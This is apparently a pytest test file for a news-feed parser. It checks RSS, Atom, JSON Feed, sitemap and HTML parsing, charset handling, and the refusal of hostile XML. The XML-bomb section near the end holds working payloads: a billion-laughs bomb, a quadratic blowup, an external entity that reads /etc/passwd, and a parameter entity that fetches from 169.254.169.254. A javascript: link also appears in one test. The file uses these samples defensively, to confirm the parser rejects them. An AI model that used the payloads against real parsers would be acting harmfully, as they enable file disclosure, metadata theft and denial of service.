"""Each format through its parser to the same ParsedItem; hostile XML refused before parsing."""

from __future__ import annotations

import json
import time
import tracemalloc
from datetime import UTC, datetime

import pytest

from newsdesk.wire.parse import (
    ParseError,
    canonical_url,
    parse,
    prescreen_xml,
    skipped_notice,
    sniff,
)

from .conftest import sample

BASE = "https://example.org/"


def test_rss_091_with_its_doctype() -> None:
    feed = parse("rss", sample("rss091.xml"), "http://gazette.example/rss")
    assert feed.title == "Harbour Town Gazette"
    assert [i.title for i in feed.items] == [
        "Ferry timetable changes for the winter",
        "Café on the quay reopens after the storm",
    ]
    assert feed.items[0].url == "http://gazette.example/2026/11/ferry-timetable-winter"
    assert feed.items[0].summary == "The morning ferry leaves half an hour later from December."


def test_rss_10_rdf() -> None:
    feed = parse("rss", sample("rss10.rdf"), "http://valley.example/rss")
    first = feed.items[0]
    assert first.title == "Bridge closure extended by two weeks"
    assert first.author == "Ilse Brandt"
    assert first.published_at == datetime(2026, 11, 20, 8, 30, tzinfo=UTC)
    assert len(feed.items) == 2


def test_rss_20_text_is_plain_and_scripts_are_gone() -> None:
    feed = parse("rss", sample("rss20.xml"), "https://northern.example/rss.xml")
    assert feed.ttl_seconds == 30 * 60
    first = feed.items[0]
    assert first.external_id == "northern-1001"
    assert first.author == "Tomas Lindqvist"
    assert first.published_at == datetime(2026, 11, 24, 6, 15, tzinfo=UTC)
    assert "alert" not in first.summary and "<" not in first.summary
    expected = "Crews worked through the night. About 300 homes are still without power."
    assert first.summary == expected
    assert first.text.startswith("Crews worked through the night to restore the lines.")
    # No guid: the item is known by its link.
    assert feed.items[2].external_id == ""
    assert feed.items[2].url == "https://northern.example/news/museum-hours-festival"


def test_atom() -> None:
    feed = parse("atom", sample("atom.xml"), "https://coastal.example/atom.xml")
    assert feed.kind == "atom"
    assert feed.site_url == "https://coastal.example/"
    first = feed.items[0]
    assert (first.external_id, first.author) == ("urn:uuid:coastal-entry-1", "Noor Haddad")
    assert first.text.startswith("Work on the sea wall")


def test_atom_tombstones() -> None:
    body = sample("atom.xml").replace(
        b"</feed>",
        b'<at:deleted-entry ref="urn:uuid:coastal-entry-2" when="2026-11-24T10:00:00Z"/></feed>',
    )
    assert parse("atom", body, BASE).deleted_ids == ["urn:uuid:coastal-entry-2"]


def test_json_feed() -> None:
    feed = parse("jsonfeed", sample("feed.json"), "https://mountain.example/feed.json")
    first, second = feed.items
    assert first.external_id == "md-77"
    assert first.author == "Lea Zanetti"
    assert first.published_at == datetime(2026, 11, 24, 6, 45, tzinfo=UTC)
    assert first.summary == "Heavy snowfall overnight led to the higher warning."
    assert second.text == "The cable car reopens on Saturday."


@pytest.mark.parametrize(
    ("doc", "message"),
    [
        ([], "must be an object, not list"),
        ({"version": 1, "items": []}, "'version' must be a string, not int"),
        ({"version": "https://jsonfeed.org/version/1.1", "items": {}}, "'items' must be a list"),
        ({"version": "https://jsonfeed.org/version/1.1"}, "no 'items' list"),
        ({"version": "https://example.org/", "items": []}, "no https://jsonfeed.org/version"),
        (
            {"version": "https://jsonfeed.org/version/1.1", "items": [{"id": "a", "title": 5}]},
            "item 1: 'title' must be a string, not int",
        ),
        (
            {"version": "https://jsonfeed.org/version/1.1", "items": [{"id": ["x"]}]},
            "'id' must be str or int, not list",
        ),
        (
            {"version": "https://jsonfeed.org/version/1.1", "items": ["just a string"]},
            "item 1 must be an object, not str",
        ),
    ],
)
def test_json_feed_wrong_types(doc: object, message: str) -> None:
    with pytest.raises(ParseError, match=message.replace("(", r"\(")):
        parse("jsonfeed", json.dumps(doc).encode(), BASE)


def test_json_feed_bad_items_are_skipped_and_named() -> None:
    doc = {
        "version": "https://jsonfeed.org/version/1",
        "items": [{"id": "ok", "title": "Fine"}, {"id": "bad", "url": 7}],
    }
    feed = parse("jsonfeed", json.dumps(doc).encode(), BASE)
    assert [i.external_id for i in feed.items] == ["ok"]
    assert feed.skipped == ["JSON Feed item 2: 'url' must be a string, not int."]


def test_deeply_nested_json_is_an_error_not_a_crash() -> None:
    with pytest.raises(ParseError, match="not valid JSON"):
        parse("jsonfeed", b"[" * 200_000 + b"]" * 200_000, BASE)


def test_news_sitemap() -> None:
    feed = parse("sitemap", sample("sitemap_news.xml"), "https://plains.example/sitemap_news.xml")
    assert feed.title == "Plains Record"
    assert [i.title for i in feed.items] == [
        "Grain harvest sets a record despite the dry summer",
        "New bus line links the three villages",
    ]
    assert feed.items[0].published_at == datetime(2026, 11, 24, 10, 0, tzinfo=UTC)


def test_html_article_through_trafilatura() -> None:
    feed = parse("html", sample("article.html"), "https://riverside.example/news/library")
    [item] = feed.items
    assert item.title == "Library to open on Sundays from January"
    assert item.author == "Amara Okafor"
    assert item.published_at is not None and item.published_at.date().isoformat() == "2026-11-22"
    assert "petition signed by more than four thousand residents" in item.text
    assert item.url == "https://riverside.example/news/library"


def test_html_section_page_lists_its_article_links() -> None:
    feed = parse("html", sample("section.html"), "https://riverside.example/news/")
    assert [i.url for i in feed.items] == [
        "https://riverside.example/news/2026/11/library-sunday-opening",
        "https://riverside.example/news/2026/11/tram-line-delay",
        "https://riverside.example/news/2026/11/market-square-trees",
    ]
    assert feed.items[1].title == "Tram line extension delayed until autumn"


PARAGRAPH = (
    "The harbour authority said on Monday that the ferry terminal would reopen after "
    "repairs to the quay, which was damaged in the storm last week. "
)
RELATED = "".join(
    f'<li><a href="/news/2026/11/related-{n}">Related story number {n} about the town</a></li>'
    for n in range(12)
)


def test_an_article_with_many_links_is_still_read_as_an_article() -> None:
    """No og:type, two teaser <article>s and a dozen article links around the text."""
    body = (
        "<html><head><title>Ferry terminal to reopen | Harbour Post</title></head><body>"
        f"<nav><ul>{RELATED}</ul></nav><main><h1>Ferry terminal to reopen</h1>"
        f"<p>{PARAGRAPH * 2}</p><p>{PARAGRAPH}</p><h2>What changes</h2><p>{PARAGRAPH * 2}</p>"
        '<aside><article><a href="/news/2026/11/a-teaser-story">A teaser story headline</a>'
        '</article><article><a href="/news/2026/11/another-teaser">Another teaser story '
        "headline</a></article></aside></main></body></html>"
    ).encode()
    feed = parse("html", body, "https://harbour.example/news/2026/11/ferry-terminal")
    [item] = feed.items
    assert item.url == "https://harbour.example/news/2026/11/ferry-terminal"
    assert item.title == "Ferry terminal to reopen"
    assert item.text.count("ferry terminal would reopen") == 5


def test_a_section_page_of_teasers_stays_a_section_page() -> None:
    """Each link with a paragraph of teaser text: plenty of text, none of it an article."""
    teasers = "".join(
        f'<div class="card"><h3><a href="/news/2026/11/council-story-{n}">Council story {n} '
        "about the vote</a></h3><p>The council voted on Tuesday to approve the new budget for "
        "the harbour district, after a long debate about costs.</p><p>2 hours ago</p></div>"
        for n in range(10)
    )
    body = (
        "<html><head><title>Local news | Harbour Post</title></head><body>"
        f"<nav>{RELATED}</nav><main><h1>Local news</h1>{teasers}</main></body></html>"
    ).encode()
    feed = parse("html", body, "https://harbour.example/news/")
    assert len(feed.items) == 22
    assert feed.items[12].title == "Council story 0 about the vote"
    assert all(item.text == "" for item in feed.items)


# Pages in their own encoding, and who published them ----------------------


def page(title: str, *, meta: str = "", head: str = "") -> str:
    paragraph = (
        "The harbour authority said on Monday that the ferry terminal would reopen "
        "after repairs to the quay, which was damaged in the storm last week. "
    )
    return (
        f"<!DOCTYPE html><html><head>{meta}<title>{title}</title>{head}</head><body>"
        f"<article><h1>{title}</h1><p>{paragraph * 3}</p><p>{paragraph * 2}</p></article>"
        "</body></html>"
    )


HEADLINE = "Café on the quay reopens … at last – “finally”"


@pytest.mark.parametrize(
    ("body", "content_type"),
    [
        # UTF-8 named only by the HTTP header (lxml alone would read Latin-1).
        (page(HEADLINE).encode("utf-8"), "text/html; charset=utf-8"),
        # Windows-1252 named only by the HTTP header.
        (page(HEADLINE).encode("cp1252"), "text/html; charset=windows-1252"),
        # The header wins over a page that misdescribes itself.
        (
            page(HEADLINE, meta='<meta charset="iso-8859-1">').encode("utf-8"),
            'text/html; charset="UTF-8"',
        ),
        # No header charset: the page's own <meta>.
        (page(HEADLINE, meta='<meta charset="windows-1252">').encode("cp1252"), "text/html"),
        (
            page(
                HEADLINE,
                meta='<meta http-equiv="Content-Type" content="text/html; charset=ISO-8859-1">',
            ).encode("cp1252"),
            "",
        ),
        # Neither: detected.
        (page(HEADLINE).encode("utf-8"), "text/html"),
    ],
    ids=["utf8-header", "cp1252-header", "header-over-meta", "meta", "meta-http-equiv", "utf8"],
)
def test_html_pages_are_decoded_by_header_then_meta_then_detection(
    body: bytes, content_type: str
) -> None:
    feed = parse("html", body, "https://quay.example/news/cafe", content_type)
    assert feed.title == HEADLINE
    assert feed.items[0].title == HEADLINE
    assert "ferry terminal would reopen" in feed.items[0].text


def test_a_pages_outlet_is_its_site_name_not_its_headline() -> None:
    site_name = '<meta property="og:site_name" content="Quay Courier – Hafen">'
    feed = parse(
        "html", page(HEADLINE, head=site_name).encode("cp1252"), BASE, "text/html; charset=cp1252"
    )
    assert (feed.title, feed.outlet) == (HEADLINE, "Quay Courier – Hafen")
    app_name = '<meta name="application-name" content="Quay Courier">'
    assert parse("html", page(HEADLINE, head=app_name).encode(), BASE).outlet == "Quay Courier"
    assert parse("html", page(HEADLINE).encode(), BASE).outlet == ""  # the host name, later
    assert parse("rss", sample("rss20.xml"), BASE).outlet == "Northern Wire"


@pytest.mark.parametrize(
    ("written", "shown"),
    [
        ("desk@lagoon.example (Lena Moor)", "Lena Moor"),
        ("Lena Moor &lt;desk@lagoon.example&gt;", "Lena Moor"),
        ("Lena Moor", "Lena Moor"),
        ("desk@lagoon.example", "desk@lagoon.example"),
    ],
)
def test_rss_authors_show_their_name(written: str, shown: str) -> None:
    body = (
        '<rss version="2.0"><channel><title>T</title><item><guid>1</guid>'
        f"<author>{written}</author></item></channel></rss>"
    ).encode()
    assert parse("rss", body, BASE).items[0].author == shown


def test_html_served_as_a_feed_is_a_clear_error() -> None:
    with pytest.raises(ParseError, match="HTML page where a feed was expected"):
        parse("rss", sample("article.html"), BASE)


@pytest.mark.parametrize(
    "body",
    [
        b"\xff\xfe\x00\x00garbage",
        b"<?xml version='1.0' encoding='utf-8'?><rss><channel><title>\xff\xfe\xc3</title>"
        b"<item><title>x\xe9</title><guid>g</guid></item></channel></rss>",
        "<?xml version='1.0' encoding='koi8-r'?><rss version='2.0'><channel><item><guid>1</guid>"
        "<title>Новости</title></item></channel></rss>".encode("koi8-r"),
    ],
)
def test_invalid_or_unusual_encodings_do_not_crash(body: bytes) -> None:
    """Either a clear error or items whose text can be stored (no surrogates or controls)."""
    try:
        feed = parse("rss", body, BASE)
    except ParseError as exc:
        assert str(exc).endswith(".")
        return
    assert feed.items
    for item in feed.items:
        for value in (item.external_id, item.title, item.summary, item.text):
            value.encode("utf-8")  # raises on a lone surrogate
            assert not any(ord(ch) < 32 and ch not in "\n\t" for ch in value)


def test_koi8_feed_is_decoded() -> None:
    body = (
        "<?xml version='1.0' encoding='koi8-r'?><rss version='2.0'><channel><item><guid>1</guid>"
        "<title>Новости</title></item></channel></rss>"
    ).encode("koi8-r")
    assert parse("rss", body, BASE).items[0].title == "Новости"


# Roots feedparser reads, however they are written ---------------------------

RSS11 = b"""<Channel xmlns="http://purl.org/net/rss1.1#"
  xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" rdf:about="http://lagoon.example/">
  <title>Lagoon Times</title><link>http://lagoon.example/</link>
  <description>News from the lagoon</description>
  <items rdf:parseType="Collection">
    <item rdf:about="http://lagoon.example/2026/11/bridge">
      <title>Bridge reopens to cyclists</title>
      <link>http://lagoon.example/2026/11/bridge</link>
    </item>
  </items>
</Channel>"""
CDF = b"""<CHANNEL HREF="http://lagoon.example/" BASE="http://lagoon.example/">
  <TITLE>Lagoon Times</TITLE>
  <ITEM HREF="http://lagoon.example/2026/11/bridge"><TITLE>Bridge reopens to cyclists</TITLE>
  </ITEM>
</CHANNEL>"""
PREFIXED_ATOM = b"""<atom:feed xmlns:atom="http://www.w3.org/2005/Atom">
  <atom:title>Lagoon Times</atom:title><atom:id>urn:lagoon</atom:id>
  <atom:updated>2026-11-24T10:00:00Z</atom:updated>
  <atom:entry><atom:id>urn:bridge</atom:id><atom:title>Bridge reopens to cyclists</atom:title>
    <atom:link href="http://lagoon.example/2026/11/bridge"/>
    <atom:updated>2026-11-24T10:00:00Z</atom:updated></atom:entry>
</atom:feed>"""
PREFIXED_RSS = b"""<r:rss xmlns:r="http://backend.userland.com/rss2" version="2.0"><r:channel>
  <r:title>Lagoon Times</r:title><r:item><r:guid>urn:bridge</r:guid>
  <r:title>Bridge reopens to cyclists</r:title>
  <r:link>http://lagoon.example/2026/11/bridge</r:link></r:item></r:channel></r:rss>"""
LONG_COMMENTS = (
    b"<!-- generated by a chatty CMS for <html> and <feed> readers "
    + b"x" * 5000
    + b" -->\n<!-- a second one -->\n"
    + b'<?xml-stylesheet href="/feed.xsl" type="text/xsl"?>\n'
    + PREFIXED_RSS.replace(b"r:", b"")
)
FEED_ROOTS = {
    "rss-1.1": (RSS11, "rss"),
    "cdf": (CDF, "rss"),
    "prefixed-atom": (PREFIXED_ATOM, "atom"),
    "prefixed-rss": (PREFIXED_RSS, "rss"),
    "root-after-long-comments": (LONG_COMMENTS, "rss"),
}


@pytest.mark.parametrize("declared", [False, True], ids=["bare", "declared"])
@pytest.mark.parametrize("name", list(FEED_ROOTS))
def test_every_root_feedparser_reads_is_a_feed(name: str, declared: bool) -> None:
    body, kind = FEED_ROOTS[name]
    if declared:
        body = b'<?xml version="1.0" encoding="utf-8"?>\n' + body
    assert sniff(body) == kind
    feed = parse(kind, body, "http://lagoon.example/feed")
    assert feed.title == "Lagoon Times"
    [item] = feed.items
    assert (item.title, item.url) == (
        "Bridge reopens to cyclists",
        "http://lagoon.example/2026/11/bridge",
    )


def test_the_prescreen_still_sees_a_dtd_behind_a_long_comment() -> None:
    body = b"<!-- " + b"x" * 5000 + b' -->\n<!DOCTYPE rss [<!ENTITY a "a">]><rss>&a;</rss>'
    assert sniff(body) == "rss"
    with pytest.raises(ParseError, match="declares entities"):
        parse("rss", body, BASE)


def test_entries_without_an_id_or_a_link_are_counted_and_explained() -> None:
    body = (
        b'<rss version="2.0"><channel><title>T</title>'
        b"<item><guid>kept</guid><title>Kept</title></item>"
        b"<item><title>No id, no link</title></item>"
        b"<item><title>A link that is not http</title><link>javascript:alert(1)</link></item>"
        b"</channel></rss>"
    )
    feed = parse("rss", body, BASE)
    assert [item.external_id for item in feed.items] == ["kept"]
    assert feed.skipped == ["it has neither an id nor an http(s) link"] * 2
    assert skipped_notice(feed.skipped) == (
        "2 entries were left out: it has neither an id nor an http(s) link."
    )
    one = skipped_notice(["it has neither an id nor an http(s) link", "a <url> without a <loc>"])
    assert one == (
        "1 entry was left out: it has neither an id nor an http(s) link. "
        "1 entry was left out: a <url> without a <loc>."
    )
    assert skipped_notice([]) == ""


# XML bombs: refused by the pre-screen, fast and small --------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<rss version="2.0"><channel><title>&lol9;</title><item><guid>1</guid></item></channel></rss>"""


def quadratic_blowup() -> bytes:
    entity = "x" * 20_000
    return (
        f'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "{entity}">]>'
        f'<rss version="2.0"><channel><title>{"&a;" * 2000}</title>'
        "<item><guid>1</guid></item></channel></rss>"
    ).encode()


EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss version="2.0"><channel><title>&secret;</title><item><guid>1</guid></item></channel></rss>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://169.254.169.254/evil.dtd"> %remote;]>
<rss version="2.0"><channel><title>t</title></channel></rss>"""

INTERNAL_SUBSET = b"""<?xml version="1.0"?>
<!DOCTYPE rss [<!ATTLIST rss version CDATA "2.0">]>
<rss><channel><title>t</title></channel></rss>"""


@pytest.mark.parametrize(
    "body",
    [
        BILLION_LAUGHS,
        quadratic_blowup(),
        EXTERNAL_ENTITY,
        PARAMETER_ENTITY,
        BILLION_LAUGHS.decode().encode("utf-16"),  # the same bomb in UTF-16
        BILLION_LAUGHS.decode().replace('<?xml version="1.0"?>', "").encode("utf-16-le"),
    ],
    ids=["billion-laughs", "quadratic", "external", "parameter", "utf16-bom", "utf16-no-bom"],
)
@pytest.mark.parametrize("kind", ["rss", "sitemap"])
def test_entity_declarations_are_refused_fast_and_small(body: bytes, kind: str) -> None:
    tracemalloc.start()
    started = time.monotonic()
    with pytest.raises(ParseError, match="declares entities"):
        parse(kind, body, BASE)
    elapsed = time.monotonic() - started
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert elapsed < 1.0
    assert peak < 50_000_000


def test_an_internal_subset_is_refused_too() -> None:
    with pytest.raises(ParseError, match="internal subset"):
        prescreen_xml(INTERNAL_SUBSET)


def test_sniffing() -> None:
    assert sniff(sample("rss20.xml")) == "rss"
    assert sniff(sample("rss10.rdf")) == "rss"
    assert sniff(sample("atom.xml")) == "atom"
    assert sniff(sample("feed.json")) == "jsonfeed"
    assert sniff(sample("sitemap_news.xml")) == "sitemap"
    assert sniff(sample("article.html")) == "html"
    assert sniff(b'{"a": 1}') == ""


def test_canonical_url() -> None:
    assert (
        canonical_url("HTTPS://Example.ORG:443/a?utm_source=x&id=4#top")
        == "https://example.org/a?id=4"
    )
    assert canonical_url("http://example.org") == "http://example.org/"
